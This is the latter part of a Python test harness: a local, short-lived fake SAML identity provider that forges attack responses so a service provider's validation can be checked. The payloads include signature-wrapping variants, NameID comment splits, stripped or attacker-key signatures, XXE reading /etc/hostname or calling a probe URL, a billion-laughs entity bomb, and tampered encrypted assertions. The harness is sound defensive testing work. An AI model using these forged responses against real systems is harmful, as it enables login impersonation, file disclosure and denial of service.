    def xsw6(self):
        """Like XSW5, but the clean copy of the original is put inside the evil Assertion's ds:Signature."""
        r = self.signed(sign_response=False)
        a = assertion_of(r)
        signature_of(a).append(without_signature(a))
        a.set("ID", new_id("_evil_assertion_"))
        tamper_identity(a, self.evil)
        return serialize(r)

    def xsw7(self):
        """An evil copy (same ID, no signature) inside samlp:Extensions (at its schema position, before Status),
        so it is the first Assertion in document order while the signed original stays in place."""
        r = self.signed(sign_response=False)
        a = assertion_of(r)
        evil = without_signature(a)
        tamper_identity(evil, self.evil)
        ext = etree.Element(q("samlp", "Extensions"))
        ext.append(evil)
        r.find(q("samlp", "Status")).addprevious(ext)
        return serialize(r)

    def xsw8(self):
        """The Assertion in place keeps its ID and ds:Signature but carries the evil identity; the clean original
        (same ID, no signature) sits in a ds:Object inside that ds:Signature."""
        r = self.signed(sign_response=False)
        a = assertion_of(r)
        clean = without_signature(a)
        tamper_identity(a, self.evil)
        obj = etree.SubElement(signature_of(a), q("ds", "Object"))
        obj.append(clean)
        return serialize(r)

    # ---- values split by comments / processing instructions ------------------------------------------------------
    def _split_value(self, make_node):
        """Sign a document whose NameID and email value read `evil@<domain>` + node + `.attacker.invalid`: the
        signed, canonical value is `evil@<domain>.attacker.invalid`, but an SP that takes only the first text
        node sees `evil@<domain>`."""
        a = build_assertion(self.shape)
        for t in identity_nodes(a):
            t.text = self.evil
            node = make_node()
            node.tail = ".attacker.invalid"
            t.append(node)
        r = build_response(self.shape, [a])
        sign(a, self.key)
        sign(r, self.key)
        return serialize(r)

    def comment_in_nameid(self):
        return self._split_value(lambda: etree.Comment(""))

    def pi_in_nameid(self):
        return self._split_value(lambda: etree.ProcessingInstruction("evil"))

    # ---- signatures missing, broken or by someone else -----------------------------------------------------------
    def unsigned(self):
        """No ds:Signature anywhere."""
        return serialize(self.signed(sign_assertion=False, sign_response=False))

    def signature_removed(self):
        """Signed as `valid`, then every ds:Signature element deleted."""
        r = self.signed()
        for sig in list(r.iter(q("ds", "Signature"))):
            sig.getparent().remove(sig)
        return serialize(r)

    def tampered(self):
        """Signed as `valid`, then the NameID (and the email attribute) changed to the evil identity."""
        r = self.signed()
        tamper_identity(assertion_of(r), self.evil)
        return serialize(r)

    def foreign_key(self):
        """Both signatures made with the attacker's key, the attacker's certificate in KeyInfo."""
        return serialize(self.signed(key=self.state.attacker_key))

    def inner_foreign_key(self):
        """The Assertion signed with the attacker's key, then the Response over it with the genuine key: only the
        IdP can make this (its Response signature covers the Assertion). Accepted unless the connection requires
        the Assertion itself to be signed by the IdP."""
        r = build_response(self.shape, [a := build_assertion(self.shape)])
        sign(a, self.state.attacker_key)
        sign(r, self.key)
        return serialize(r)

    # ---- properly signed, wrong content -------------------------------------------------------------------------
    def wrong_audience(self):
        return serialize(self.signed(replace(self.shape, audience="https://other-sp.example/metadata")))

    def wrong_destination(self):
        return serialize(self.signed(replace(self.shape, destination="https://other-sp.example/acs")))

    def wrong_recipient(self):
        return serialize(self.signed(replace(self.shape, recipient="https://other-sp.example/acs")))

    def wrong_issuer(self):
        return serialize(self.signed(replace(self.shape, issuer="https://evil-idp.example/metadata")))

    def no_audience(self):
        return serialize(self.signed(replace(self.shape, audience=None)))

    def expired(self):
        t = self.now
        return serialize(self.signed(replace(
            self.shape, issue_instant=t - dt.timedelta(minutes=15), not_before=t - dt.timedelta(minutes=15, seconds=30),
            not_on_or_after=t - dt.timedelta(minutes=10), scd_not_on_or_after=t - dt.timedelta(minutes=10))))

    def not_yet_valid(self):
        t = self.now
        return serialize(self.signed(replace(
            self.shape, not_before=t + dt.timedelta(minutes=10), not_on_or_after=t + dt.timedelta(minutes=15))))

    def sha1(self):
        return serialize(self.signed(sha1=True))

    def two_assertions(self):
        """Two Assertions, each genuinely signed: the first for name_id/email, the second for the evil identity;
        the Response signed over both."""
        first = build_assertion(self.shape)
        second = build_assertion(replace(self.shape, name_id=self.evil, email=self.evil))
        r = build_response(self.shape, [first, second])
        sign(first, self.key)
        sign(second, self.key)
        sign(r, self.key)
        return serialize(r)

    def status_failure(self):
        """A signed Response with Status Responder/AuthnFailed and no Assertion."""
        r = build_response(self.shape, [], status=STATUS_RESPONDER, sub_status=STATUS_AUTHN_FAILED,
                           message="authentication failed")
        sign(r, self.key)
        return serialize(r)

    # ---- DTDs ---------------------------------------------------------------------------------------------------
    def _entity_in_identity(self, signed_value, entity, doctype):
        """Sign a document whose NameID and email value are signed_value (what the entity expands to), then
        replace those values by an entity reference &entity; and put the DOCTYPE in front: a parser that expands
        the entity sees a correctly signed document."""
        r = self.signed(replace(self.shape, name_id=signed_value, email=signed_value))
        for t in identity_nodes(assertion_of(r)):
            t.text = None
            t.append(etree.Entity(entity))
        return serialize(r, doctype=doctype)

    def xxe(self):
        """External entity SYSTEM "file:///etc/hostname" used as NameID and email; signed over the file's content
        (the SP runs on this machine), so only refusing the DTD / not resolving stops it."""
        try:
            with open(HOSTNAME_FILE, encoding="utf-8") as f:
                value = f.read()
        except OSError:
            value = ""
        doctype = f'<!DOCTYPE samlp:Response [\n<!ENTITY xxe SYSTEM "file://{HOSTNAME_FILE}">\n]>'
        return self._entity_in_identity(value, "xxe", doctype)

    def xxe_http(self):
        """External entity SYSTEM "<this peer>/xxe-probe" used as NameID and email; the probe answers the evil
        identity, and the document is signed over that expansion. GET /probe-hits counts the fetches."""
        self.state.xxe_body = self.evil.encode()
        doctype = f'<!DOCTYPE samlp:Response [\n<!ENTITY xxe SYSTEM "{self.state.base}/xxe-probe">\n]>'
        return self._entity_in_identity(self.evil, "xxe", doctype)

    def dtd_internal_entity(self):
        """Internal entity <!ENTITY who "evil@<domain>"> used as NameID and email, signed after expansion."""
        doctype = f'<!DOCTYPE samlp:Response [\n<!ENTITY who "{self.evil}">\n]>'
        return self._entity_in_identity(self.evil, "who", doctype)

    def billion_laughs(self):
        """The classic exponential entity bomb (10^9 "lol"s, about 3 GB expanded) as NameID and email. The
        signatures were made over the text "lol" and do not match any expansion."""
        lines = ['<!ENTITY lol "lol">']
        for i in range(1, 10):
            prev = "lol" if i == 1 else f"lol{i - 1}"
            lines.append(f'<!ENTITY lol{i} "{("&" + prev + ";") * 10}">')
        doctype = "<!DOCTYPE samlp:Response [\n" + "\n".join(lines) + "\n]>"
        return self._entity_in_identity("lol", "lol9", doctype)

    # ---- signatures with references outside the document -----------------------------------------------------------
    def _external_reference(self, uri):
        a = build_assertion(self.shape)
        r = build_response(self.shape, [a])
        with probe_callbacks(self.state):
            sign(a, self.key, extra_uris=[uri])
        sign(r, self.key)
        return serialize(r)

    def reference_uri_http(self):
        """The Assertion's SignedInfo has a second Reference, URI "<this peer>/ref-probe" (digest of what the
        probe serves). A verifier that dereferences it is counted by GET /probe-hits."""
        return self._external_reference(f"{self.state.base}/ref-probe")

    def reference_uri_file(self):
        """The Assertion's SignedInfo has a second Reference, URI "file:///etc/hostname" (digest of the file)."""
        return self._external_reference(f"file://{HOSTNAME_FILE}")

    # ---- encrypted assertions -------------------------------------------------------------------------------------
    def _encrypted(self, cipher, sign_assertion=True, sign_response=True, flip=False,
                   key_transport=xmlsec.Transform.RSA_OAEP, assertion_key=None, before_encrypt=None, plaintext=None):
        """The template with its Assertion encrypted to sp_cert_pem. In order: the Assertion signed (by
        assertion_key, default the genuine key) unless sign_assertion is false; before_encrypt(assertion), a
        change after signing; encryption with cipher, the session key wrapped by key_transport, of plaintext(
        assertion) (octets) if given, else of the Assertion itself; flip XORs one byte of the ciphertext; the
        Response signed last unless sign_response is false."""
        pem = self.sp_cert()
        a = build_assertion(self.shape)
        r = build_response(self.shape, [a])
        if sign_assertion:
            sign(a, assertion_key or self.key)
        if before_encrypt is not None:
            before_encrypt(a)
        wrapper = encrypt_assertion(r, a, pem, cipher, key_transport=key_transport,
                                    plaintext=None if plaintext is None else plaintext(a))
        if flip:
            value = wrapper.find(f'{q("xenc", "EncryptedData")}/{q("xenc", "CipherData")}/{q("xenc", "CipherValue")}')
            raw = bytearray(base64.b64decode(value.text))
            raw[len(raw) // 2] ^= 0x01  # after the IV, before the last block (CBC padding) or the tag (GCM)
            value.text = base64.b64encode(bytes(raw)).decode()
        if sign_response:
            sign(r, self.key)
        return serialize(r)

    def encrypted_aes128_cbc(self):
        return self._encrypted(xmlsec.Transform.AES128)

    def encrypted_aes128_gcm(self):
        return self._encrypted(xmlsec.Transform.AES128_GCM)

    def encrypted_aes256_gcm(self):
        return self._encrypted(xmlsec.Transform.AES256_GCM)

    def encrypted_tampered(self):
        """AES-128-CBC, one byte of the EncryptedData ciphertext flipped, the Response signed after the flip."""
        return self._encrypted(xmlsec.Transform.AES128, flip=True)

    def encrypted_unsigned_response(self):
        """AES-128-GCM to the SP's key, and no signature at all (neither Response nor Assertion): anyone holding
        the SP's public certificate can make this, encryption is not authentication."""
        return self._encrypted(xmlsec.Transform.AES128_GCM, sign_assertion=False, sign_response=False)

    def encrypted_aes256_cbc(self):
        """AES-256-CBC (the default of ADFS and Entra ID), RSA-OAEP-MGF1P; Assertion and Response signed."""
        return self._encrypted(xmlsec.Transform.AES256)

    def encrypted_assertion_signed_gcm(self):
        """The signed Assertion encrypted with AES-128-GCM, the Response unsigned (as ADFS and Entra ID send)."""
        return self._encrypted(xmlsec.Transform.AES128_GCM, sign_response=False)

    def encrypted_assertion_signed_cbc(self):
        """Same with AES-128-CBC: unauthenticated CBC in an unsigned envelope is a decryption oracle."""
        return self._encrypted(xmlsec.Transform.AES128, sign_response=False)

    def encrypted_inner_foreign_key(self):
        """Response unsigned; the Assertion signed by the attacker key (its cert in KeyInfo), AES-128-GCM."""
        return self._encrypted(xmlsec.Transform.AES128_GCM, sign_response=False,
                               assertion_key=self.state.attacker_key)

    def encrypted_inner_tampered(self):
        """Response unsigned; the Assertion genuinely signed, then given the evil identity, then AES-128-GCM."""
        return self._encrypted(xmlsec.Transform.AES128_GCM, sign_response=False,
                               before_encrypt=lambda a: tamper_identity(a, self.evil))

    def encrypted_gcm_tampered(self):
        """Response unsigned, Assertion genuinely signed, AES-128-GCM, one ciphertext byte flipped (bad GCM tag)."""
        return self._encrypted(xmlsec.Transform.AES128_GCM, sign_response=False, flip=True)

    def encrypted_inner_dtd(self):
        """Response unsigned; the AES-128-GCM plaintext is a DOCTYPE (internal subset) before a signed Assertion."""
        return self._encrypted(xmlsec.Transform.AES128_GCM, sign_response=False,
                               plaintext=lambda a: INNER_DOCTYPE + etree.tostring(copy.deepcopy(a)))

    def encrypted_rsa15(self):
        """Both signed, AES-128-GCM, the session key wrapped with RSA PKCS#1 v1.5 (xmlenc#rsa-1_5), not OAEP."""
        return self._encrypted(xmlsec.Transform.AES128_GCM, key_transport=xmlsec.Transform.RSA_PKCS1)

    def encrypted_signed_response_unsigned_assertion(self):
        """Response signed, the Assertion not signed, AES-128-CBC: refused where the Assertion must be signed."""
        return self._encrypted(xmlsec.Transform.AES128, sign_assertion=False)

    def _encrypted_default_ns(self, cipher, sign_response, self_contained):
        """ADFS's namespace shape: a Response with no saml prefix (its Issuer declares the default namespace), the
        Assertion written with the assertion namespace as default namespace and signed by the genuine key, then
        encrypted by encrypt_assertion_default_ns; the Response signed last if sign_response."""
        pem = self.sp_cert()
        a = build_assertion(self.shape, default_ns=True)
        sign(a, self.key)
        r = build_response(self.shape, [], default_ns=True)
        encrypt_assertion_default_ns(r, a, pem, cipher, self_contained=self_contained)
        if sign_response:
            sign(r, self.key)
        return serialize(r)

    def encrypted_default_ns_signed_response(self):
        """As ADFS writes it: <EncryptedAssertion xmlns="...assertion">, <KeyInfo xmlns="...xmldsig#">, AES-256-CBC,
        RSA-OAEP; the signed Assertion's plaintext `<Assertion ID=...>` has no xmlns of its own (it relies on the
        EncryptedAssertion's default namespace); the Response signed after encrypting."""
        return self._encrypted_default_ns(xmlsec.Transform.AES256, sign_response=True, self_contained=False)

    def encrypted_default_ns_assertion_signed_gcm(self):
        """Same shape, AES-128-GCM, the plaintext self-contained (`<Assertion xmlns="...assertion" ...>`), the
        Response not signed."""
        return self._encrypted_default_ns(xmlsec.Transform.AES128_GCM, sign_response=False, self_contained=True)


FORGE_KINDS = [
    "valid", "valid_assertion_signed", "valid_response_signed",
    "xsw1", "xsw2", "xsw3", "xsw4", "xsw5", "xsw6", "xsw7", "xsw8",
    "comment_in_nameid", "pi_in_nameid",
    "unsigned", "signature_removed", "tampered", "foreign_key", "inner_foreign_key",
    "wrong_audience", "wrong_destination", "wrong_recipient", "wrong_issuer", "no_audience", "expired",
    "not_yet_valid", "sha1", "two_assertions", "status_failure",
    "xxe", "xxe_http", "billion_laughs", "dtd_internal_entity",
    "reference_uri_http", "reference_uri_file",
    "encrypted_aes128_cbc", "encrypted_aes128_gcm", "encrypted_aes256_gcm", "encrypted_tampered",
    "encrypted_unsigned_response",
    "encrypted_aes256_cbc", "encrypted_assertion_signed_gcm", "encrypted_assertion_signed_cbc",
    "encrypted_inner_foreign_key", "encrypted_inner_tampered", "encrypted_gcm_tampered", "encrypted_inner_dtd",
    "encrypted_rsa15", "encrypted_signed_response_unsigned_assertion",
    "encrypted_default_ns_signed_response", "encrypted_default_ns_assertion_signed_gcm",
]
FORGE_LOCK = threading.Lock()  # python-xmlsec keys and IO callbacks are process-wide


class probe_callbacks:
    """While signing, serve this peer's /ref-probe and /etc/hostname to libxmlsec1 from memory, so that making
    reference_uri_* never counts as a probe hit (and works when the file is missing)."""

    def __init__(self, state):
        self.urls = {f"{state.base}/ref-probe".encode(): lambda: REF_PROBE_BODY,
                     f"file://{HOSTNAME_FILE}".encode(): read_hostname}

    def __enter__(self):
        xmlsec.cleanup_callbacks()
        xmlsec.register_default_callbacks()
        xmlsec.register_callbacks(lambda name: name in self.urls, lambda name: io.BytesIO(self.urls[name]()),
                                  lambda f, buf: f.readinto(buf), lambda f: f.close())

    def __exit__(self, *exc):
        xmlsec.cleanup_callbacks()
        xmlsec.register_default_callbacks()


def read_hostname():
    try:
        with open(HOSTNAME_FILE, "rb") as f:
            return f.read()
    except OSError:
        return b""


def forge(state, req):
    kind = req.get("kind")
    if kind not in FORGE_KINDS:
        raise ForgeError(f"unknown kind {kind!r}; known kinds: {', '.join(FORGE_KINDS)}")
    with FORGE_LOCK:
        f = Forger(state, req)
        xml = getattr(f, kind)()
    return {"kind": kind, "evil_identity": f.evil, "SAMLResponse": base64.b64encode(xml).decode("ascii"),
            "xml": xml.decode("utf-8")}


# --------------------------------------------------------------------------------------------------------------
# HTTP.
# --------------------------------------------------------------------------------------------------------------
class Handler(BaseHTTPRequestHandler):
    server_version = "latchkey-saml-idp"
    state: State = None  # set in main()

    def log_message(self, fmt, *args):
        log.info("%s %s", self.address_string(), fmt % args)

    def send(self, status, body, content_type="application/json"):
        if not isinstance(body, (bytes, str)):
            body = json.dumps(body)
        if isinstance(body, str):
            body = body.encode("utf-8")
        if content_type.startswith("text/") or content_type.endswith("xml"):
            content_type += "; charset=utf-8"
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Cache-Control", "no-store")
        self.end_headers()
        self.wfile.write(body)

    def fail(self, status, reason):
        log.info("%s %s -> %d %s", self.command, self.path.split("?")[0], status, reason)
        self.send(status, reason + "\n", "text/plain")

    def body(self):
        n = int(self.headers.get("Content-Length") or 0)
        return self.rfile.read(n) if n else b""

    def json_body(self):
        try:
            value = json.loads(self.body() or b"{}")
        except ValueError as e:
            raise ValueError(f"body is not JSON: {e}") from e
        if not isinstance(value, dict):
            raise ValueError("body must be a JSON object")
        return value

    def do_GET(self):
        url = urllib.parse.urlsplit(self.path)
        query = urllib.parse.parse_qs(url.query, keep_blank_values=True)
        st = self.state
        try:
            if url.path == "/metadata":
                if query.get("nocert", [""])[0] == "1":
                    certs = []
                elif query.get("extra_cert", [""])[0] == "1":
                    certs = [st.rollover.cert_pem, st.genuine.cert_pem]
                else:
                    certs = [st.genuine.cert_pem]
                return self.send(200, idp_metadata(st.base, certs), "application/samlmetadata+xml")
            if url.path == "/cert":
                return self.send(200, st.genuine.cert_pem, "text/plain")
            if url.path == "/attacker-cert":
                return self.send(200, st.attacker.cert_pem, "text/plain")
            if url.path == "/sso/redirect":
                return self.sso_redirect(url.query)
            if url.path == "/idp-initiated":
                return self.idp_initiated(query)
            if url.path == "/probe-hits":
                return self.send(200, dict(st.hits))
            if url.path == "/xxe-probe":
                st.hit("xxe")
                log.warning("xxe-probe fetched by %s", self.address_string())
                return self.send(200, st.xxe_body, "text/plain")
            if url.path == "/ref-probe":
                st.hit("ref")
                log.warning("ref-probe fetched by %s", self.address_string())
                return self.send(200, REF_PROBE_BODY, "application/octet-stream")
            if url.path in ("/user", "/mode"):
                return self.send(200, st.user if url.path == "/user" else st.mode)
            return self.fail(404, f"no such path {url.path}")
        except Exception as e:  # noqa: BLE001 - a test wants to see the reason
            log.exception("GET %s failed", url.path)
            return self.fail(500, f"{type(e).__name__}: {e}")

    def do_POST(self):
        url = urllib.parse.urlsplit(self.path)
        st = self.state
        try:
            if url.path == "/sp":
                try:
                    return self.send(200, st.register_sp(self.body().decode("utf-8")))
                except (ValueError, UnicodeDecodeError) as e:
                    return self.fail(400, str(e))
            if url.path == "/user":
                try:
                    return self.send(200, st.set_user(self.json_body()))
                except ValueError as e:
                    return self.fail(400, str(e))
            if url.path == "/mode":
                try:
                    body = self.json_body()
                    for k, v in body.items():
                        if k not in st.mode or not isinstance(v, bool):
                            raise ValueError(f"unknown mode or not a boolean: {k}")
                except ValueError as e:
                    return self.fail(400, str(e))
                st.mode.update(body)
                return self.send(200, st.mode)
            if url.path == "/forge":
                try:
                    return self.send(200, forge(st, self.json_body()))
                except ForgeError as e:
                    return self.fail(400, str(e))
            if url.path == "/probe-hits/reset":
                with st.hits_lock:
                    st.hits.update(xxe=0, ref=0)
                return self.send(200, dict(st.hits))
            return self.fail(404, f"no such path {url.path}")
        except Exception as e:  # noqa: BLE001
            log.exception("POST %s failed", url.path)
            return self.fail(500, f"{type(e).__name__}: {e}")

    # ---- SP-initiated: GET /sso/redirect ------------------------------------------------------------------------
    def sso_redirect(self, raw_query):
        st = self.state
        params = urllib.parse.parse_qs(raw_query, keep_blank_values=True)
        one = {k: v[0] for k, v in params.items()}
        if "SAMLRequest" not in one:
            return self.fail(400, "missing SAMLRequest")
        if "Signature" not in one or "SigAlg" not in one:
            return self.fail(400, "AuthnRequest not signed: the Redirect binding needs SigAlg and Signature "
                                  "(this IdP has WantAuthnRequestsSigned=\"true\")")
        issuer = authn_request_issuer(one["SAMLRequest"])
        if issuer is None:
            return self.fail(400, "SAMLRequest is not a DEFLATEd, base64 samlp:AuthnRequest with a saml:Issuer")
        if issuer not in st.sps:
            return self.fail(400, f"unknown SP {issuer!r}: POST its metadata to /sp first")
        _tls.raw_query, _tls.sig_checks = raw_query, None
        try:
            with st.lock:
                req = st.idp.parse_authn_request(one["SAMLRequest"], BINDING_HTTP_REDIRECT,
                                                 relay_state=one.get("RelayState"), sigalg=one["SigAlg"],
                                                 signature=one["Signature"])
        except Exception as e:  # noqa: BLE001 - pysaml2 raises many kinds
            checks = _tls.sig_checks
            reason = f"{type(e).__name__}: {e}"
            if checks is not None and not checks["raw_query"]:
                reason = (f"AuthnRequest signature does not verify with the SP's signing certificate "
                          f"(SigAlg {one['SigAlg']}; pysaml2 check {checks['pysaml2']}, raw-query check "
                          f"{checks['raw_query']}): {reason}")
            return self.fail(400, reason)
        finally:
            _tls.raw_query = None
        if req is None:
            return self.fail(400, "pysaml2 could not parse the AuthnRequest")
        msg = req.message
        try:
            with st.lock:
                args = st.idp.response_args(msg, [BINDING_HTTP_POST])
        except Exception as e:  # noqa: BLE001
            return self.fail(400, f"no HTTP-POST AssertionConsumerService matches the request: {e}")
        try:
            xml = st.genuine_response(args["sp_entity_id"], args["destination"], msg.id)
        except ValueError as e:
            return self.fail(400, str(e))
        log.info("AuthnRequest %s from %s -> Response to %s for %s", msg.id, args["sp_entity_id"],
                 args["destination"], st.user["name_id"])
        return self.send(200, post_form(args["destination"], xml, one.get("RelayState")), "text/html")

    # ---- IdP-initiated: GET /idp-initiated?sp=...&relay_state=... ------------------------------------------------
    def idp_initiated(self, query):
        st = self.state
        sp = query.get("sp", [""])[0]
        if sp not in st.sps:
            return self.fail(400, f"unknown SP {sp!r}: POST its metadata to /sp first")
        with st.lock:
            acs = [s["location"] for s in st.idp.metadata.assertion_consumer_service(sp, BINDING_HTTP_POST)]
        try:
            xml = st.genuine_response(sp, acs[0], None)
        except ValueError as e:
            return self.fail(400, str(e))
        relay = query.get("relay_state", [None])[0]
        return self.send(200, post_form(acs[0], xml, relay), "text/html")


def authn_request_issuer(saml_request):
    """The saml:Issuer of a Redirect-binding SAMLRequest (raw DEFLATE, base64), or None."""
    try:
        xml = zlib.decompress(base64.b64decode(saml_request), -15)
        root = etree.fromstring(xml, etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False))
    except (ValueError, zlib.error, etree.XMLSyntaxError):
        return None
    issuer = root.find(q("saml", "Issuer"))
    return issuer.text.strip() if issuer is not None and issuer.text else None


# --------------------------------------------------------------------------------------------------------------
# Lifetime and main.
# --------------------------------------------------------------------------------------------------------------
def bound_lifetime(server, minutes=LIFETIME_MINUTES):
    """Stop when stdin reaches EOF (whoever started us is gone), on SIGTERM, or after `minutes`."""

    def stop(why):
        log.info("stopping: %s", why)
        threading.Thread(target=server.shutdown, daemon=True).start()

    def watch_stdin():
        try:
            while sys.stdin.buffer.read1(65536):
                pass
        except (OSError, ValueError):
            pass
        stop("stdin closed")

    threading.Thread(target=watch_stdin, daemon=True).start()
    timer = threading.Timer(minutes * 60, stop, args=(f"{minutes} minutes passed",))
    timer.daemon = True
    timer.start()
    signal.signal(signal.SIGTERM, lambda *_: stop("SIGTERM"))


def main():
    logging.basicConfig(stream=sys.stderr, level=logging.INFO, format="saml-idp: %(levelname)s %(message)s")
    for noisy in ("saml2", "xmlschema"):
        logging.getLogger(noisy).setLevel(logging.ERROR)
    own_dir = not os.environ.get("SAML_IDP_DIR")
    directory = tempfile.mkdtemp(prefix="saml-idp-") if own_dir else os.environ["SAML_IDP_DIR"]
    os.makedirs(directory, exist_ok=True)
    xmlsec.init()
    server = ThreadingHTTPServer(("127.0.0.1", int(os.environ.get("PORT") or 0)), Handler)
    server.daemon_threads = True
    base = f"http://127.0.0.1:{server.server_address[1]}"
    Handler.state = State(base, directory)
    bound_lifetime(server)
    print(f"READY {base}", flush=True)
    try:
        server.serve_forever(poll_interval=0.2)
    finally:
        server.server_close()
        if own_dir:
            shutil.rmtree(directory, ignore_errors=True)
        logging.shutdown()
        sys.stdout.flush()
        # Not a normal interpreter exit: the stdin watcher may still be blocked in read(), which makes
        # finalization abort ("could not acquire lock for <stdin>").
        os._exit(0)


if __name__ == "__main__":
    main()
